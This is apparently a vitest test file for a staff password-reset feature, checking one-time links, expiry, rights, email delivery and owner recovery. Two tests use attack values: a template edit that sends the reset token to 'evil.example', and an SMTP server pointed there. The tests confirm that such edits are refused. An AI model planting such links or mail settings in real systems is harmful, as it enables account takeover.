/** Links to a new password, for people who have forgotten theirs. */
import { execFile } from "node:child_process";
import { join } from "node:path";
import { promisify } from "node:util";
import { expect, it } from "vitest";
import * as provider from "#core/contract/provider";
import * as session from "#core/contract/session";
import * as contract from "#core/contract/staff";
import * as template from "#core/contract/template";
import { rightsAtFirst } from "#core/contract/values/rights";
import { db } from "#core/db/client";
import { eq, sql } from "#core/db/drizzle";
import { guessesMax } from "#core/staff/sessions/attempts";
import { passwordResets } from "#core/staff/staff.table";
import { entriesAbout } from "../support/audit.ts";
import { call } from "../support/call.ts";
import { aKey } from "../support/given/given.ts";
import { aMailServer, mailsGoTo, smtpSettings, workOnMessages } from "../support/given/mail.ts";
import { aPerson, aSignedIn, password, roleHas, signedIn } from "../support/given/people.ts";

const refused = (status: number, code: string) => ({ status, body: { error: { code } } });
const unknown = refused(404, "passwordReset.unknown");
const tokenIn = (link: string) => new URLSearchParams(new URL(link).hash.slice(1)).get("token")!;
const chosen = "a new one they remember";
const linkFor = async (id: Awaited<ReturnType<typeof aPerson>>["id"]) =>
  (await call(contract.resetPassword, { id })).body.link;
const choose = (link: string, using = chosen) =>
  call(contract.choosePassword, { token: tokenIn(link), password: using }, { as: null });
const signIn = (email: string, using: string) => call(session.signIn, { email, password: using }, { as: null });

it("a link sets a new password once, and ends all sessions", async () => {
  const [{ id, email, headers }, other] = [await aSignedIn(), await aSignedIn()];
  const sent = await call(contract.resetPassword, { id });
  expect(sent).toMatchObject({ status: 201, body: { email } });
  expect(sent.body.link).toMatch(/^https:\/\/store\.test\/choose-password#token=[\w-]{43}$/);
  // Until then nothing changes: not everyone asked for it.
  expect(await call(session.read, {}, { headers })).toMatchObject({ status: 200 });
  expect(await signIn(email, password)).toMatchObject({ status: 200 });

  const answer = await choose(sent.body.link);
  expect(answer).toMatchObject({ status: 200, body: {} });
  expect(answer.cookies ?? []).toEqual([]);
  expect(await call(session.read, {}, { headers })).toMatchObject({ status: 401 });
  expect(await call(session.read, {}, { headers: other.headers })).toMatchObject({ status: 200 });
  expect(await signIn(email, password)).toMatchObject(refused(401, "session.wrong"));
  expect(await signIn(email, chosen)).toMatchObject({ status: 200 });
  expect(await choose(sent.body.link)).toMatchObject(unknown);

  const entries = await entriesAbout(id);
  expect(entries.map(({ action }) => action)).toEqual(
    expect.arrayContaining(["staff.resetPassword", "staff.choosePassword"]),
  );
  expect(entries.find(({ action }) => action === "staff.choosePassword")).toMatchObject({
    ...{ actorKind: "staff", actorId: id, after: { sessionsEnded: 2 } },
  });
  expect(JSON.stringify(entries)).not.toContain(tokenIn(sent.body.link));
});

it("two who use a link at once set one password", async () => {
  const { id, email } = await aPerson();
  const link = await linkFor(id);
  const tried = ["the first of two words", "the second of two words"];
  const answers = await Promise.all(tried.map((one) => choose(link, one)));
  expect(answers.map(({ status }) => status).toSorted()).toEqual([200, 404]);
  const wins = answers[0]!.status === 200;
  expect(await signIn(email, tried[wins ? 0 : 1]!)).toMatchObject({ status: 200 });
  expect(await signIn(email, tried[wins ? 1 : 0]!)).toMatchObject(refused(401, "session.wrong"));
});

it("a link does not work when it has expired, was replaced, or was never sent", async () => {
  const { id } = await aPerson();
  const first = await linkFor(id);
  const [row] = await db().select().from(passwordResets).where(eq(passwordResets.staffId, id));
  expect(JSON.stringify(row)).not.toContain(tokenIn(first));
  const second = await linkFor(id);
  expect(await choose(first)).toMatchObject(unknown);
  await db()
    .update(passwordResets)
    .set({ expiresAt: sql`now() - interval '1 second'` })
    .where(eq(passwordResets.staffId, id));
  expect(await choose(second)).toMatchObject(unknown);
  expect(await choose("https://store.test/choose-password#token=guessed")).toMatchObject(unknown);
});

it("a common password is refused, and the link stays valid", async () => {
  const { id } = await aPerson();
  const link = await linkFor(id);
  expect(await choose(link, "1234567890")).toMatchObject({ status: 400 });
  expect(await choose(link)).toMatchObject({ status: 200 });
});

// With `team.write` alone, a manager could otherwise sign in as an owner.
it("nobody sends a link to someone with rights that they lack, to themselves, or to someone removed", async () => {
  await roleHas("manager", [...rightsAtFirst("staff"), "team.read", "team.write"]);
  const { id, headers } = await aSignedIn({ role: "manager" });
  const owner = await aPerson({ role: "owner" });
  const clerk = await aPerson({ role: "staff" });
  expect(await call(contract.resetPassword, { id: owner.id }, { headers })).toMatchObject(refused(403, "right.beyond"));
  expect(await call(contract.resetPassword, { id }, { headers })).toMatchObject(refused(409, "staff.ownPassword"));
  expect(await call(contract.resetPassword, { id: clerk.id }, { headers })).toMatchObject({ status: 201 });
  await call(contract.remove, { id: clerk.id });
  expect(await call(contract.resetPassword, { id: clerk.id })).toMatchObject(refused(404, "staff.unknown"));
});

// A link that outlived these could open an account that its creator may no longer open, or never might.
it("a link ends with the person's removal, new role or new password, and with its creator's rights", async () => {
  const removed = await aPerson({ role: "staff" });
  const ofRemoved = await linkFor(removed.id);
  await call(contract.remove, { id: removed.id });
  expect(await choose(ofRemoved)).toMatchObject(unknown);

  const promoted = await aPerson({ role: "staff" });
  const ofPromoted = await linkFor(promoted.id);
  await call(contract.setRole, { id: promoted.id, role: "owner" });
  expect(await choose(ofPromoted)).toMatchObject(unknown);

  const remembered = await aSignedIn();
  const ofRemembered = await linkFor(remembered.id);
  const change = { currentPassword: password, newPassword: "yet another one" };
  expect(await call(session.changePassword, change, { headers: remembered.headers })).toMatchObject({ status: 200 });
  expect(await choose(ofRemembered)).toMatchObject(unknown);

  await roleHas("manager", [...rightsAtFirst("staff"), "team.read", "team.write"]);
  const creator = await aSignedIn({ role: "manager" });
  const clerk = await aPerson({ role: "staff" });
  const { body } = await call(contract.resetPassword, { id: clerk.id }, { headers: creator.headers });
  await call(contract.setRole, { id: creator.id, role: "staff" });
  expect(await choose(body.link)).toMatchObject(unknown);
});

it("whoever has guessed too often can sign in at once with the new password", async () => {
  const { id, email } = await aPerson();
  for (let guess = 0; guess < guessesMax.pair; guess++) await signIn(email, "is it this one?");
  expect(await signIn(email, password)).toMatchObject({ status: 429 });
  expect(await choose(await linkFor(id))).toMatchObject({ status: 200 });
  expect(await signIn(email, chosen)).toMatchObject({ status: 200 });
});

it("the link arrives by email, and no one can read it in the admin", async () => {
  const server = await aMailServer();
  await mailsGoTo(server);
  const { id, email } = await aPerson();
  const link = await linkFor(id);
  await workOnMessages();
  const { parsed } = server.mails.find(({ raw }) => raw.includes(email))!;
  expect(parsed.text).toContain(link);
  expect(parsed.html).toContain(link);
  const rows = await db().execute<{ whole: string }>(sql`select messages::text as whole from messages`);
  expect(JSON.stringify(rows)).not.toContain(tokenIn(link));
});

it("an owner who is locked out gets a link on the host", async () => {
  const { email } = await aPerson({ role: "owner" });
  const script = join(import.meta.dirname, "../../scripts/owner.ts");
  const { stdout } = await promisify(execFile)(process.execPath, [script, "--reset", email.toUpperCase()]);
  expect(await choose(stdout.split("\n")[0]!)).toMatchObject({ status: 200 });
  expect(await signedIn(email, chosen)).toBeDefined();
  const unknownOne = promisify(execFile)(process.execPath, [script, "--reset", "nobody@store.test"]);
  await expect(unknownOne).rejects.toMatchObject({ code: 1, stderr: expect.stringContaining("No one on the team") });
});

// An edited link could lead an owner to another server, which would use it first.
it("only someone with every right can edit the emails with such links, and the notice of a new address", async () => {
  await roleHas("manager", [...rightsAtFirst("manager"), "templates.write", "team.write"]);
  const as = await aKey({ role: "manager" });
  for (const kind of ["staff.passwordReset", "staff.invited"] as const) {
    const named = { kind, channel: "email" } as const;
    const before = (await call(template.read, named)).body;
    const { html = "", ...source } = before.source;
    const link = kind === "staff.invited" ? "invitation.link" : "reset.link";
    const edited = {
      ...named,
      source: { ...source, html: `${html}<a href="https://evil.example/?{{ ${link} }}">Here</a>` },
    };
    expect(await call(template.edit, edited, { as })).toMatchObject(refused(403, "right.beyond"));
    expect((await call(template.read, named)).body).toEqual(before);
    expect(await call(template.reset, named, { as })).toMatchObject({ status: 200 });
    expect(await call(template.edit, { ...named, source: { ...source, html: `${html}<p>Welcome</p>` } })).toMatchObject(
      {
        status: 200,
      },
    );
    await call(template.reset, named);
  }
  for (const [kind, edited] of [
    ["staff.emailChanged", refused(403, "right.beyond")],
    ["webhook.dead", { status: 200 }],
  ] as const) {
    const other = { kind, channel: "email" } as const;
    const { source } = (await call(template.read, other)).body;
    expect(await call(template.edit, { ...other, source }, { as })).toMatchObject(edited);
  }
  await roleHas("manager", rightsAtFirst("manager"));
});

// The next link to an owner's new password would be read on that server.
it("only someone with every right chooses the server that sends them", async () => {
  await roleHas("manager", [...rightsAtFirst("manager"), "providers.read", "providers.write"]);
  const as = await aKey({ role: "manager" });
  const server = await aMailServer();
  await mailsGoTo(server);
  const senders = async () => (await call(provider.list, { kind: "sender" })).body.items;
  const before = await senders();
  const settings = { password: null, ...smtpSettings(server.port, { host: "evil.example" }) };
  for (const more of [{}, { use: true } as const])
    expect(await call(provider.configure, { code: "smtp", settings, ...more }, { as })).toMatchObject(
      refused(403, "right.beyond"),
    );
  expect(await senders()).toEqual(before);
  // No SMS contains such a link.
  const twilio = { accountSid: `AC${"0".repeat(32)}`, authToken: "secret", sender: "+15005550006" };
  expect(await call(provider.configure, { code: "twilio", settings: twilio }, { as })).toMatchObject({ status: 200 });
  await roleHas("manager", rightsAtFirst("manager"));
});
